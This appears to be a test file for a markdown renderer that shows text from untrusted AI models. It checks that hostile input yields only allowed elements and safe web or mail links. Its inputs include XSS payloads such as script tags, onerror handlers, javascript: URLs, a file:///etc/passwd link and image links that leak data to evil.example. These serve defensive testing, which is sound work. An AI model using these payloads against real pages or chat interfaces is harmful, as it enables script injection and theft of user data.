/** Nodes of hostile models' text: only listed elements and attributes, and text. */
import { expect, test } from 'bun:test'
import type { ComponentChild, ComponentChildren, VNode } from 'preact'
import { block } from './blocks.tsx'
import { decodeEntities } from './decode-entities.ts'
import { GrowingMarkdown } from './growing-markdown.ts'
import { safeLink } from './inline.tsx'

interface Element {
  readonly type: string
  readonly props: Readonly<Record<string, unknown>>
}

/** Returns elements and texts of a document. Components that use hooks appear as their names. */
function render(text: string): { elements: Element[]; shown: string } {
  const document = new GrowingMarkdown()
  document.push(text)
  document.end(text)
  const elements: Element[] = []
  const texts: string[] = []
  const walk = (node: ComponentChildren): void => {
    if (Array.isArray(node)) for (const child of node) walk(child)
    else if (typeof node === 'string' || typeof node === 'number') texts.push(String(node))
    else if (typeof node === 'object' && node !== null) walkNode(node as VNode)
  }
  const walkNode = ({ type, props }: VNode): void => {
    if (typeof type === 'string') elements.push({ type, props })
    const code = (props as { code?: string }).code
    if (code !== undefined) texts.push(code)
    else if (typeof type === 'function') walk((type as (props: object) => ComponentChild)(props))
    else walk(props.children)
  }
  for (const { token } of document.closed) walk(block(token))
  return { elements, shown: texts.join('') }
}

const allowed = ['a', 'blockquote', 'br', 'code', 'del', 'div', 'em', 'hr', 'li', 'ol', 'p', 'span', 'strong', 'table']
const allowedParts = [...allowed, 'tbody', 'td', 'th', 'thead', 'tr', 'ul']

const hostile = [
  '<script>alert(1)</script>',
  'a <img src=x onerror=alert(1)> b',
  '<svg onload=alert(1)><style>*{display:none}</style></svg>',
  '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:alert(1)) <javascript:alert(1)>',
  '[x](data:text/html,<script>alert(1)</script>) [v](vbscript:x) [f](file:///etc/passwd) [r](/dashboard/api/me) [h](//evil.example)',
  '![secret](http://evil.example/?q=secret) ![x][p]\n\n[p]: http://evil.example/p.png',
  '| <b>a</b> | ![x](http://evil.example/t.png) |\n|---|---|\n| <iframe src=http://evil.example></iframe> | [a](javascript:1) |',
  '- <a href="javascript:alert(1)">x</a>\n- <form action=http://evil.example><input></form>',
  '> <math><mtext></mtext></math>\n\n# <object data=http://evil.example></object>',
  '```html\n<script>alert(1)</script>\n```',
]

for (const text of hostile) {
  test(`only known elements come of ${JSON.stringify(text.slice(0, 40))}`, () => {
    const { elements } = render(text)
    for (const { type, props } of elements) {
      expect(allowedParts).toContain(type)
      expect(Object.keys(props).filter((name) => /^on|^style$|^src$|innerHTML/i.test(name))).toEqual([])
      if (type === 'a') expect(['http:', 'https:', 'mailto:']).toContain(new URL(String(props.href)).protocol)
    }
  })
}

test('markup is shown as it was written, and references to characters are decoded once', () => {
  expect(render('a <b onclick=x>bold</b> &lt;i&gt; &amp;lt; &#x2764; `&lt;`').shown).toBe(
    'a <b onclick=x>bold</b> <i> &lt; ❤ &lt;',
  )
})

test('a link tells its host, a picture is a link and is not loaded', () => {
  const { elements, shown } = render(
    '[bank](https://evil.example/x) [bank.example](https://k.example) ![cat](https://evil.example/c.png) https://a.example',
  )
  expect(shown).toBe(
    'bank (evil.example) bank.example (k.example) Picture, not loaded: cat (evil.example) https://a.example',
  )
  const links = elements.filter(({ type }) => type === 'a')
  expect(links.map(({ props }) => [props.rel, props.target])).toEqual(
    Array.from({ length: 4 }, () => ['noopener noreferrer nofollow', '_blank']),
  )
})

test('links of other kinds than the web and mail are none', () => {
  const links = ['https://a.example', 'mailto:a@b.example', 'javascript:1', 'data:,x', '/x', '//x', 'ftp://x', 'a b']
  expect(links.map((link) => safeLink(link)?.host)).toEqual(['a.example', 'a@b.example', ...Array(6).fill(undefined)])
})

test('references that are none, or that name no character, do no harm', () => {
  expect(decodeEntities('&nosuch; & &#0; &#xD800; &#1114112; &amp')).toBe('&nosuch; & \ufffd \ufffd \ufffd &amp')
})
